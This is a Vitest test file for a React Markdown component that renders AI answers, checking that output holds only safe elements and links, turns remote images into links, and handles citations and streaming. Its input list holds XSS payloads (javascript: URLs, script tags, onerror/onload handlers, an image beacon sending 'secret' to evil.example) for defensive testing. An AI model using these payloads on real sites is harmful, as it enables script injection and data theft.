// @vitest-environment happy-dom

import { cleanup, render } from "@testing-library/react";
import type { MessageSource } from "@valet/agent-core";
import fc from "fast-check";
import type { ReactNode } from "react";
import { afterEach, expect, test } from "vitest";
import { AgentProvider } from "./agent-provider.tsx";
import { Markdown } from "./markdown.tsx";

afterEach(cleanup);

const source = (number: number): MessageSource => ({
  id: `s${number}`,
  number,
  title: `Page ${number}`,
  sourceUrl: `/sources/doc_${number}#a`,
  headingPath: ["Page", "Part"],
  snippet: "…",
  cited: true,
  sourceType: "documentation",
  sourceVisibility: "public",
});

function show(node: ReactNode): HTMLElement {
  const provider = (
    <AgentProvider
      projectId="prj_1"
      integrationId="int_1"
      getSessionToken={() => Promise.reject(new Error("not in this test"))}
    >
      {node}
    </AgentProvider>
  );
  return render(provider).container;
}

const nasty = fc.oneof(
  fc.constantFrom(
    "[x](javascript:alert(1))",
    "[x](JaVaScript:alert(1))",
    "[x](data:text/html,hi)",
    "[x](vbscript:x)",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "**[x](javascript:1)**",
    "| [x](javascript:1) | ![y](//evil.example/p) |\n|---|---|\n| a | b |",
    "[1][2]",
    "[1, 2]",
    "[9]",
  ),
  fc.string(),
);

test("whatever a model writes, only harmless elements and web addresses come of it", () => {
  const allowed = new Set(
    "DIV P H3 H4 H5 H6 STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE HR BR TABLE THEAD TBODY TR TH TD SECTION A BUTTON SPAN INPUT svg path".split(
      " ",
    ),
  );
  fc.assert(
    fc.property(fc.array(nasty, { maxLength: 5 }), fc.boolean(), (pieces, isStreaming) => {
      const root = show(
        <Markdown
          text={pieces.join("\n\n")}
          sources={[source(1), source(2)]}
          isStreaming={isStreaming}
        />,
      );
      for (const element of root.querySelectorAll("*")) {
        expect(allowed).toContain(element.tagName);
        for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^src/);
        const href = element.getAttribute("href");
        if (href !== null) expect(href).toMatch(/^(?:https?:|mailto:)/i);
      }
      cleanup();
    }),
    { numRuns: 150 },
  );
});

test("an image of elsewhere becomes a link, so that nothing is loaded", () => {
  const root = show(<Markdown text="![a cat](https://img.example/cat.png)" />);
  expect(root.querySelector("img")).toBeNull();
  expect(root.querySelector("a")?.textContent).toBe("a cat");
  expect(root.querySelector("a")?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
});

test("numbers become buttons only where there is such a source", () => {
  const buttons = (text: string) => {
    const root = show(<Markdown text={text} sources={[source(1), source(2)]} />);
    const found = [...root.querySelectorAll("button")].map((button) => button.textContent);
    cleanup();
    return found;
  };
  expect(buttons("See [1].")).toEqual(["1"]);
  expect(buttons("See [1][2] and [1, 2].")).toEqual(["1", "2", "1", "2"]);
  expect(buttons("See [3] and [1, 3].")).toEqual([]);
  expect(buttons("`array[1]` stays code")).toEqual([]);
});

test("unfinished markup at the end of a growing answer is closed or held back", () => {
  const text = (markdown: string) => {
    const root = show(<Markdown text={markdown} sources={[source(1)]} isStreaming />);
    const shown = root.textContent;
    cleanup();
    return shown;
  };
  expect(text("It is so [1")).toBe("It is so ".trim());
  expect(text("It is **bo")).toBe("It is bo");
  expect(text("Use `co")).toBe("Use co");
});

test("headings stand below those of the page, and what scrolls can be reached by keyboard", () => {
  const root = show(<Markdown text={"# A\n\n###### B\n\n| a |\n|---|\n| b |\n\n```js\nx\n```"} />);
  expect([...root.querySelectorAll("h3, h6")].map(({ textContent }) => textContent)).toEqual([
    "A",
    "B",
  ]);
  expect(root.querySelector("section")?.tabIndex).toBe(0);
  expect(root.querySelector("pre")?.tabIndex).toBe(0);
});
